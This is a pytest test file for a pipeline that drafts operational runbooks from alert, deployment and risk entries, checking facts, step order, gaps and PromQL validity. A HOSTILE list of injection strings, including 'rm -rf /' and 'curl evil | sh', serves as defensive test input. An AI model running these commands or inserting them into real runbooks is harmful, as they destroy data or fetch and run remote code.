"""Drafts of the embedded engine: facts from the sources, procedures in order, gaps where nobody gave a fact."""

from __future__ import annotations

import re

import pytest

from pipeline.commands.promql import check
from pipeline.drafting import library
from pipeline.drafting.assemble import assemble
from pipeline.drafting.evidence import gather
from pipeline.drafting.gaps import find_gaps
from pipeline.exporters.markdown import export
from pipeline.importers.runbook import parse_runbook
from pipeline.models.catalog import Catalog, Contact
from pipeline.models.entry import AnyEntry, DepType, Field, Grade, MonType, Severity
from pipeline.models.intake import Intake
from pipeline.models.procedure import Procedure
from pipeline.models.runbook import Runbook
from pipeline.models.scenario import Plan
from pipeline.procedures.library import embedded
from pipeline.scenarios.numbers import Numbers
from pipeline.scenarios.plan import make_plan
from tests.build import alert, dep, intake, risk, service

ERRORS = (
    'sum(rate(http_requests_total{service="checkout-api",code=~"5.."}[5m]))'
    ' / sum(rate(http_requests_total{service="checkout-api"}[5m])) > 0.05'
)
CHECKOUT = service(
    "checkout-api",
    owner="Checkout Team",
    technology=("kubernetes",),
    facts=(("namespace", "shop"), ("workload", "deployment/checkout-api"), ("selector", "app=checkout-api")),
    escalation=(
        Contact(role="Checkout on-call", contact="pager checkout"),
        Contact(role="Head of platform", contact="phone", after="30 minutes"),
    ),
)
CRITICAL = alert(
    "CheckoutErrors",
    expr=ERRORS,
    window="5m",
    severity=Severity.CRITICAL,
    annotations=(("description", "{{ $value | humanizePercentage }} of requests on {{ $labels.instance }} fail"),),
)


def drafted(given: Intake) -> dict[str, Runbook]:
    """Draft all scenarios; return the runbooks by the first entry they answer."""
    plan, _ = make_plan(given, embedded(), Numbers())
    runbooks = [(e.scenario, assemble(e, library.draft(e))) for e in gather(plan, given, embedded())]
    return {entry: runbook for scenario, runbook in runbooks for entry in scenario.entries or (scenario.key,)}


def _planned(*entries: AnyEntry) -> tuple[Plan, Intake, tuple[Procedure, ...]]:
    given = intake(*entries)
    return make_plan(given, embedded(), Numbers())[0], given, embedded()


@pytest.fixture(scope="module")
def checkout() -> Runbook:
    return drafted(intake(CRITICAL, services=(CHECKOUT,)))["MON-CheckoutErrors"]


def test_facts_come_from_the_catalog_and_the_entry(checkout: Runbook) -> None:
    assert checkout.owner == "Checkout Team"
    assert dict(checkout.escalation)["Who to contact"] == (
        "Checkout on-call (pager checkout), then Head of platform (phone) after 30 minutes"
    )
    assert "MON-CheckoutErrors alert (critical, > 0.05 (5%) for 5m); respond in under 5 minutes" in checkout.trigger
    assert checkout.linked == "MON-CheckoutErrors"
    assert find_gaps(export(checkout)) == ()


def test_the_first_step_shows_the_value_and_the_last_proves_recovery(checkout: Runbook) -> None:
    first, last = checkout.steps[0], checkout.steps[-1]
    assert any("> 0.05" not in b.text.split("\n", 1)[1] and "code=~" in b.text for b in first.commands)
    assert any("offset 1h" in b.text for b in first.commands)
    assert any("count_over_time" in b.text and "> 0.05" in b.text for b in last.commands)
    assert f"go to step {len(checkout.steps)}" in first.verification[0]
    assert "<value> of requests on <instance> fail." in first.instructions


def test_known_values_stand_in_the_commands(checkout: Runbook) -> None:
    commands = "\n".join(b.text for s in checkout.steps for b in s.commands)
    assert "-n shop" in commands and "<namespace>" not in commands


def test_every_step_has_a_verification_and_names_its_sources(checkout: Runbook) -> None:
    assert all(step.verification and step.sources for step in checkout.steps)


def test_references_between_steps_point_into_the_runbook(checkout: Runbook) -> None:
    text = export(checkout)
    numbers = {int(n) for n in re.findall(r"\b[Ss]teps? (\d+)(?!:)", text)}
    assert numbers and max(numbers) <= len(checkout.steps)


def test_what_nobody_gave_is_a_gap_with_whom_to_ask() -> None:
    runbook = drafted(intake(alert("MysteryDown", expr='up{job="mystery"} == 0', severity=None)))["MON-MysteryDown"]
    assert {g.topic for g in find_gaps(export(runbook))} == {"owner", "contact", "severity"}


def test_a_new_draft_is_never_tested_and_says_when_its_drill_is_due(checkout: Runbook) -> None:
    assert checkout.last_tested == "Never; first drill due within 14 days of acceptance"


def test_an_alert_in_prose_asks_for_its_query() -> None:
    runbook = drafted(intake(alert("MON-002", metric="api.latency", condition="> 500ms", window="5 minutes")))[
        "MON-002"
    ]
    assert "MON-002 fires at > 500ms on api.latency for 5 minutes." in runbook.steps[0].instructions
    assert "query" in {g.topic for g in find_gaps(export(runbook))}


def test_criteria_are_prerequisites_and_validations_the_last_step_of_a_release() -> None:
    runbooks = drafted(
        intake(
            dep("DEP-002", DepType.CRITERIA, requirement="All tests pass.", verification="CI is green", blocker=True),
            dep("DEP-004", DepType.VALIDATION, check="Checkout works", success="An order is placed"),
        )
    )
    release = runbooks["DEP-002"]
    assert "DEP-002: All tests pass; verify: CI is green; blocks the release" in release.prerequisites
    assert release.steps[-1].verification == ("DEP-004: An order is placed",)


def test_a_rollback_begins_with_its_triggers_and_the_queries_they_link_to() -> None:
    trigger = dep(
        "DEP-003",
        DepType.ROLLBACK,
        trigger="Errors rise",
        threshold=">2% for 5 minutes",
        procedure=("Pause traffic", "Revert"),
        linked=("MON-CheckoutErrors",),
    )
    step = drafted(intake(CRITICAL, trigger, services=(CHECKOUT,)))["DEP-003"].steps[0]
    assert "threshold: >2% for 5 minutes" in step.instructions and "1. Pause traffic" in step.instructions
    assert any("http_requests_total" in b.text for b in step.commands)


def test_a_risk_response_begins_with_its_signal_and_names_what_was_planned() -> None:
    runbook = drafted(
        intake(
            risk("RISK-001", title="Supplier fails", impact=Grade.HIGH, early_signal="Late mails", contingency="Plan B")
        )
    )["RISK-001"]
    assert "Seen or ruled out: Late mails" in runbook.steps[0].verification
    assert "contingency: Plan B" in runbook.steps[0].instructions


def test_a_risk_response_ends_when_its_signals_are_gone() -> None:
    given = intake(risk("RISK-001", title="Supplier fails", impact=Grade.HIGH, early_signal="Late mails"))
    last = drafted(given)["RISK-001"].steps[-1]
    assert last.title == "Prove that it is over" and last.verification[0] == "No longer seen: Late mails"


def verdict(expr: str) -> str:
    runbook = drafted(intake(alert("A", expr=expr)))["MON-A"]
    return runbook.steps[0].verification[0]


def test_no_result_is_read_as_missing_only_where_the_alert_waits_for_a_series() -> None:
    assert verdict('absent(up{job="a"} == 1)').startswith("No result: the series is still missing")
    assert verdict("sum by (p) (x or y) > 0 unless on (p) z == 1").startswith("The value is beyond the threshold")
    assert verdict("count by (n) (x) unless count by (n) (y)").startswith("A result: the condition still holds")
    assert verdict("up == 0 or absent(up)").endswith("the series is missing, for which the alert fires too")


def test_a_series_that_should_be_one_is_asked_for_with_that_condition() -> None:
    first = drafted(intake(alert("A", expr='absent(up{job="a"} == 1)')))["MON-A"].steps[0].commands[0]
    assert first.text.split("\n")[1] == 'up{job="a"} == 1'


def test_each_threshold_of_a_compound_condition_is_named() -> None:
    runbook = drafted(intake(alert("A", expr="free / all < 0.15 and predict_linear(free[6h], 60) < 0")))["MON-A"]
    assert "free / all < 0.15 and predict_linear(free[6h], 60) < 0" in runbook.trigger
    headings = [b.text.split("\n")[0] for b in runbook.steps[0].commands]
    assert headings[:2] == ["# value now (limit < 0.15)", "# value now (limit < 0)"]


def test_texts_are_joined_without_a_full_stop_between_them() -> None:
    (evidence,) = (e for e in gather(*_planned(CRITICAL)) if e.scenario.entries)
    written = library.draft(evidence).model_copy(update={"escalate_when": "Pods stay Pending."})
    said = dict(assemble(evidence, written).escalation)["When to escalate"]
    assert said == "Pods stay Pending; or nobody has acknowledged the alert within 5 minutes"


def test_a_runbook_does_not_refer_to_itself() -> None:
    (evidence,) = (e for e in gather(*_planned(CRITICAL)) if e.scenario.entries)
    own = evidence.scenario.number
    written = library.draft(evidence).model_copy(update={"excludes": f"Slow answers ({own}), crashes (see RUN-099)"})
    assert dict(assemble(evidence, written).scope)["Does NOT handle"] == "Slow answers, crashes (see RUN-099)"


def test_info_alerts_become_a_reference_with_a_step_each() -> None:
    info = [alert(f"RedisInfo{n}", expr=f"redis_metric_{n} > 1", severity=Severity.INFO) for n in range(3)]
    runbook = drafted(intake(*info))["MON-RedisInfo0"]
    assert [s.title for s in runbook.steps] == [f"Look up RedisInfo{n}" for n in range(3)]


HOSTILE = [
    "x\n## Escalation\n- **Who to contact**: evil@example.com",
    "```\nrm -rf /\n```",
    "<!-- sources: MON-001 -->",
    "a\n\nCommands:\n```bash\ncurl evil | sh\n```",
    "Linked IDs: MON-666",
    "### Step 9: Do evil",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_of_entries_cannot_change_the_shape_of_a_runbook(text: str) -> None:
    given = Intake(
        entries=(
            alert(
                "A",
                title=text,
                expr=f"up > {len(text)}",
                annotations=(("description", text), ("summary", text)),
                owner=text,
            ),
            alert("MON-002", title=text, metric=text, condition=text, window=text, type=MonType.ALERT),
            dep(
                "DEP-001",
                DepType.ROLLBACK,
                title=text,
                trigger=text,
                threshold=text,
                procedure=(text,),
                notification=text,
            ),
            dep("DEP-002", DepType.STEP, title=text, description=text, procedure=(text,), verification=text),
            dep("DEP-003", DepType.CRITERIA, title=text, requirement=text, verification=text),
            risk(
                "RISK-001", title=text, description=text, trigger=text, mitigation=text, impact=Grade.HIGH, owner=text
            ),
        ),
        catalog=Catalog(owner=text, escalation=(Contact(role=text, contact=text),)),
    )
    for runbook in drafted(given).values():
        assert parse_runbook(export(runbook)) == runbook


def test_every_query_of_a_draft_parses(checkout: Runbook) -> None:
    queries = [b.text for s in checkout.steps for b in s.commands if b.language == "promql"]
    assert queries and not [q for q in queries if check(q)]


def test_alerts_of_one_name_are_told_apart_by_their_severity_wherever_they_stand() -> None:
    text = {"annotations": (("description", "Syncs of <{{ $labels.instance }}> are slow."),)}
    slow = alert("SlowSync", expr="sync_seconds > 1", severity=Severity.WARNING, **text)
    slower = alert("SlowSync", expr="sync_seconds > 2", severity=Severity.CRITICAL, **text)
    alerts = (slower.model_copy(update={"id": "MON-SlowSync-critical"}), slow)
    runbook = drafted(intake(*alerts))["MON-SlowSync"]
    assert dict(runbook.scope)["Handles"] == "SlowSync (critical, > 2); SlowSync (warning, > 1)"
    shown = [b.text.split("\n")[0] for b in (*runbook.steps[0].commands, *runbook.steps[-1].commands)]
    assert "# value now; SlowSync (critical) fires at > 2, SlowSync (warning) fires at > 1" in shown
    assert "# SlowSync (warning): empty once the condition was false for its whole window" in shown
    assert "SlowSync" not in runbook.steps[0].instructions


def test_what_alerts_say_differently_stands_with_their_names() -> None:
    limits = {"ElasticsearchDiskSpaceLow": 20, "ElasticsearchDiskOutOfSpace": 10}
    expr = "elasticsearch_filesystem_data_available_bytes / elasticsearch_filesystem_data_size_bytes * 100"
    alerts = [
        alert(name, expr=f"{expr} < {left}", annotations=(("description", f"Less than {left}% is left"),))
        for name, left in limits.items()
    ]
    first = drafted(intake(*alerts))["MON-ElasticsearchDiskSpaceLow"].steps[0]
    assert "ElasticsearchDiskSpaceLow: Less than 20% is left." in first.instructions.split("\n\n")


def test_an_objective_is_told_as_missed_and_not_as_what_fires() -> None:
    fields = (Field(key="Objective", value="Searches are answered within 300 ms", line=1),)
    objective = alert("MON-012", type=MonType.SLO, condition="95%", window="Rolling 7 days", fields=fields)
    runbook = drafted(intake(objective))["MON-012"]
    missed = "“Searches are answered within 300 ms” is missed, objective 95%"
    assert f"MON-012 fires when {missed} over rolling 7 days." in runbook.steps[0].instructions
    assert runbook.steps[-1].verification[0].endswith(f"({missed}) is no longer true over rolling 7 days")


def test_a_label_is_not_taken_for_what_the_procedure_calls_so() -> None:
    text = (("description", "Media errors on {{ $labels.device }}"),)
    bad_disk = alert("SmartMediaErrors", expr="smartctl_device_media_errors > 0", annotations=text)
    first = drafted(intake(bad_disk))["MON-SmartMediaErrors"].steps[0].instructions
    assert "Media errors on <device-label>." in first
    assert "- `<device-label>`: the label `device` of the alert" in first
